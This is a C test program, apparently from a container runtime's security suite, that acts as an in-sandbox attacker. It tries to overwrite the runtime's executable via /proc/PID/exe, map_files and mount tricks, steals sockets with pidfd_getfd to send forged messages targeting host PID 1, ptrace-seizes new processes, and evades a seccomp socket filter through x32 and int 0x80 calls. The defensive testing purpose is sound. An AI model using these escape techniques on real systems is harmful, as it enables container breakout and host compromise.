/* A hostile program for the security tests; static, so that it runs in any rootfs.
 *
 *   attacker exe DEV INODE  keep every /proc/PID/exe that is this file until /stop is there, then
 *                           try to write to each, by every way that there is
 *   attacker pry DEV INODE  look into every process that executes this file, until /stop is there
 *   attacker hunt DEV INODE trace whatever process comes next, until /stop is there, and tell of
 *                           those that execute this file
 *   attacker fds PID        list the descriptors of a process
 *   attacker sockets        ask for sockets by every calling convention
 *   attacker spin FILE      try to write to FILE until /stop is there
 *
 * Results are lines in /out: WORD NUMBERS... An errno of 0 is a success of the attack.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

struct attributes { uint64_t set, clear, propagation, userns; };

static FILE *out;

static void say(const char *format, ...) {
	va_list list;
	va_start(list, format);
	vfprintf(out, format, list);
	va_end(list);
	fflush(out);
}

static int stopped(void) { return access("/stop", F_OK) == 0; }

static char *fd_path(int fd) {
	static char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return path;
}

static void report(const char *how, int result) {
	say("TRY %s %d\n", how, result < 0 ? errno : 0);
}

/* Every way to write to the file or its metadata through this descriptor. */
static void write_through(const char *what, int fd) {
	char how[64];
	struct timespec now[2] = {{0, UTIME_NOW}, {0, UTIME_NOW}};
#define ATTEMPT(name, call) do { snprintf(how, sizeof how, "%s-" name, what); report(how, (call)); } while (0)
	ATTEMPT("write", open(fd_path(fd), O_WRONLY | O_CLOEXEC));
	ATTEMPT("readwrite", open(fd_path(fd), O_RDWR | O_CLOEXEC));
	ATTEMPT("append", open(fd_path(fd), O_WRONLY | O_APPEND | O_CLOEXEC));
	ATTEMPT("truncate", truncate(fd_path(fd), 0));
	ATTEMPT("chmod", chmod(fd_path(fd), 0777));
	ATTEMPT("chown", chown(fd_path(fd), 0, 1));
	ATTEMPT("touch", utimensat(AT_FDCWD, fd_path(fd), now, 0));
	ATTEMPT("link", linkat(fd, "", AT_FDCWD, "/stolen", AT_EMPTY_PATH));
	ATTEMPT("linkname", linkat(AT_FDCWD, fd_path(fd), AT_FDCWD, "/stolen", AT_SYMLINK_FOLLOW));
}

/* Every way to get a mount of the file that can be written to. */
static void remount(int fd) {
	struct attributes writable = { .clear = 1 };
	int tree;
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
		write_through("setattr", fd);
	else
		report("setattr", -1);
	tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 | O_CLOEXEC);
	report("open_tree", tree);
	if (tree >= 0) {
		syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
		write_through("clone", tree);
	}
	close(open("/target", O_CREAT | O_RDWR, 0600));
	report("bind", mount(fd_path(fd), "/target", NULL, MS_BIND, NULL));
	report("remount", mount(NULL, fd_path(fd), NULL, MS_REMOUNT | MS_BIND, NULL));
	report("remountfs", mount(NULL, fd_path(fd), NULL, MS_REMOUNT, NULL));
	report("move_mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, "/target", 4));
	write_through("after", fd);
}

static int number(const char *name) {
	char *end;
	long value = strtol(name, &end, 10);
	return *name && !*end ? (int)value : -1;
}

/* Opens what is to be the wanted file: the process may have executed another one meanwhile. */
static int open_if(const char *path, int flags, const struct stat *wanted) {
	struct stat status;
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return fd;
	if (fstat(fd, &status) == 0 && status.st_ino == wanted->st_ino && status.st_dev == wanted->st_dev)
		return fd;
	close(fd);
	errno = ESTALE;
	return -1;
}

/* Maps of the file, which are descriptors of it too. */
static void map_files(int pid, const struct stat *exe) {
	char path[300];
	struct dirent *entry;
	struct stat status;
	DIR *directory;
	snprintf(path, sizeof path, "/proc/%d/map_files", pid);
	if (!(directory = opendir(path)))
		return;
	while ((entry = readdir(directory))) {
		snprintf(path, sizeof path, "/proc/%d/map_files/%s", pid, entry->d_name);
		if (stat(path, &status) || status.st_ino != exe->st_ino || status.st_dev != exe->st_dev)
			continue;
		report("map_files", open_if(path, O_WRONLY, exe));
	}
	closedir(directory);
}

#define MOST 8
static struct { dev_t device; ino_t inode; int fd, rw; } held[MOST];

static void keep_exe(int pid, const struct stat *wanted) {
	char path[64];
	struct stat status;
	int fd, i, count = 0;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
		return;
	fstat(fd, &status);
	if (status.st_ino != wanted->st_ino || status.st_dev != wanted->st_dev) {
		close(fd);
		return;
	}
	for (i = 0; i < MOST && held[i].fd; i++)
		count++;
	map_files(pid, &status);
	if (count == MOST) {
		close(fd);
		return;
	}
	held[count].device = status.st_dev;
	held[count].inode = status.st_ino;
	held[count].fd = fd;
	/* Attempts while it is executed, and a descriptor that already reads. */
	held[count].rw = open_if(path, O_RDONLY, &status);
	report("at-once", open_if(path, O_WRONLY, &status));
	say("HELD %lu %lu\n", (unsigned long)status.st_dev, (unsigned long)status.st_ino);
}

static void each_process(void (*act)(int, const struct stat *), char **file) {
	struct stat wanted = {0};
	if (!file[0] || !file[1])
		return;
	wanted.st_dev = strtoul(file[0], NULL, 10);
	wanted.st_ino = strtoul(file[1], NULL, 10);
	do {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			int pid = number(entry->d_name);
			if (pid > 0 && pid != getpid())
				act(pid, &wanted);
		}
		closedir(proc);
	} while (!stopped());
}

static void exe(char **file) {
	int i;
	each_process(keep_exe, file);
	for (i = 0; i < MOST && held[i].fd; i++) {
		say("AFTER %lu %lu\n", (unsigned long)held[i].device, (unsigned long)held[i].inode);
		write_through("path", held[i].fd);
		if (held[i].rw >= 0)
			write_through("open", held[i].rw);
		remount(held[i].fd);
	}
}

static void see(int pid, const char *what, const struct stat *exe) {
	char path[300];
	struct stat status;
	int fd;
	snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
	if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
		return;
	if (fstat(fd, &status) == 0)
		say("SEE %lu %lu %s %lu %lu %o\n", (unsigned long)exe->st_dev, (unsigned long)exe->st_ino,
			what, (unsigned long)status.st_dev, (unsigned long)status.st_ino, status.st_mode);
	close(fd);
}

/* A word that makes a gullible parent go on with another process: process 1 of the host. */
static void lie(int pid, int fd) {
	static const unsigned short kinds[] = {3, 1, 3};
	int process = syscall(SYS_pidfd_open, pid, 0), stolen, i;
	if (process < 0)
		return;
	stolen = syscall(SYS_pidfd_getfd, process, fd, 0);
	close(process);
	if (stolen < 0)
		return;
	for (i = 0; i < 3; i++) {
		unsigned char message[12] = {0};
		int victim = 1;
		memcpy(message, &kinds[i], 2);
		memcpy(message + 8, &victim, 4);
		send(stolen, message, sizeof message, MSG_NOSIGNAL | MSG_DONTWAIT);
	}
	say("LIED 1\n");
	close(stolen);
}

static void pry(int pid, const struct stat *wanted) {
	char path[300], what[280];
	struct dirent *entry;
	struct stat exe, link;
	DIR *directory;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (stat(path, &exe) || exe.st_ino != wanted->st_ino || exe.st_dev != wanted->st_dev)
		return;
	say("MET %lu %lu\n", (unsigned long)exe.st_dev, (unsigned long)exe.st_ino);
	see(pid, "root", &exe);
	see(pid, "cwd", &exe);
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	if ((directory = opendir(path))) {
		while ((entry = readdir(directory))) {
			int fd = number(entry->d_name);
			if (fd < 3)
				continue;
			snprintf(what, sizeof what, "fd/%s", entry->d_name);
			see(pid, what, &exe);
			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
			if (getenv("LIE") && stat(path, &link) == 0 && S_ISSOCK(link.st_mode))
				lie(pid, fd);
		}
		closedir(directory);
	}
	if (getenv("SEIZE") && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		say("SEIZED %d\n", pid);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		see(pid, "root", &exe);
		see(pid, "cwd", &exe);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* The number of the process that was made last; the next ones follow it. */
static int last_process(void) {
	int last = 0;
	FILE *file = fopen("/proc/loadavg", "r");
	if (!file)
		return 0;
	fscanf(file, "%*s %*s %*s %*s %d", &last);
	fclose(file);
	return last;
}

static void hunt(char **file) {
	unsigned long tries = 0;
	if (!file[0] || !file[1])
		return;
	while (!stopped()) {
		int last = last_process(), pid, round;
		for (round = 0; round < 50; round++)
			for (pid = last; pid < last + 6; pid++) {
				char path[64];
				struct stat exe;
				tries++;
				if (pid <= 0 || pid == getpid() || ptrace(PTRACE_SEIZE, pid, 0, 0))
					continue;
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				if (stat(path, &exe) == 0 && exe.st_ino == strtoul(file[1], NULL, 10)
						&& exe.st_dev == strtoul(file[0], NULL, 10))
					say("SEIZED %d\n", pid);
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, NULL, __WALL);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
	}
	say("TRIES %lu\n", tries);
}

static void spin(const char *file) {
	unsigned long tries = 0;
	int fd, last = 0;
	while (!stopped()) {
		tries++;
		if ((fd = open(file, O_WRONLY | O_CLOEXEC)) >= 0) {
			report("spin", 0);
			close(fd);
		} else if (errno != last) {
			last = errno;
			report("spin", -1);
		}
	}
	say("TRIES %lu\n", tries);
}

#ifdef __x86_64__
static long int80(long number, long a, long b, long c) {
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c)
		: "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}
#endif

/* AF_INET datagram sockets; the test's filter forbids socket(2) for all of these. */
static void sockets(void) {
	say("CALL native %d\n", socket(AF_INET, SOCK_DGRAM, 0) < 0 ? errno : 0);
#ifdef __x86_64__
	static uint32_t arguments[3] = { AF_INET, SOCK_DGRAM, 0 };
	int status;
	if (fork() == 0) {
		long x32 = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_DGRAM, 0);
		say("CALL x32 %d\n", x32 < 0 ? errno : 0);
		_exit(0);
	}
	wait(&status);
	say("CALL x32-end %d\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
	if (fork() == 0) {
		long number = int80(359, AF_INET, SOCK_DGRAM, 0);
		say("CALL i386 %ld\n", number < 0 ? -number : 0);
		_exit(0);
	}
	wait(&status);
	say("CALL i386-end %d\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
	if (fork() == 0) {
		/* The array must be below 4 GiB: a static, non-PIE program has it there. */
		long number = int80(102, 1, (long)arguments, 0);
		say("CALL socketcall %ld\n", number < 0 ? -number : 0);
		_exit(0);
	}
	wait(&status);
	say("CALL socketcall-end %d\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
#endif
}

static void list_descriptors(const char *pid) {
	char path[300], text[300];
	struct dirent *entry;
	DIR *directory;
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	if (!(directory = opendir(path))) {
		say("ERROR %d\n", errno);
		return;
	}
	while ((entry = readdir(directory))) {
		ssize_t length;
		if (number(entry->d_name) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
		length = readlink(path, text, sizeof text - 1);
		text[length < 0 ? 0 : length] = 0;
		say("FD %s %s\n", entry->d_name, text);
	}
	closedir(directory);
}

int main(int argc, char **argv) {
	const char *act = argc > 1 ? argv[1] : "";
	if (!(out = fopen("/out", "a")))
		return 2;
	fcntl(fileno(out), F_SETFD, FD_CLOEXEC);
	say("START %d\n", getpid());
	if (!strcmp(act, "exe"))
		exe(argv + 2);
	else if (!strcmp(act, "pry"))
		each_process(pry, argv + 2);
	else if (!strcmp(act, "hunt"))
		hunt(argv + 2);
	else if (!strcmp(act, "sockets"))
		sockets();
	else if (!strcmp(act, "spin") && argc > 2)
		spin(argv[2]);
	else if (!strcmp(act, "fds") && argc > 2)
		list_descriptors(argv[2]);
	say("END %d\n", getpid());
	return 0;
}
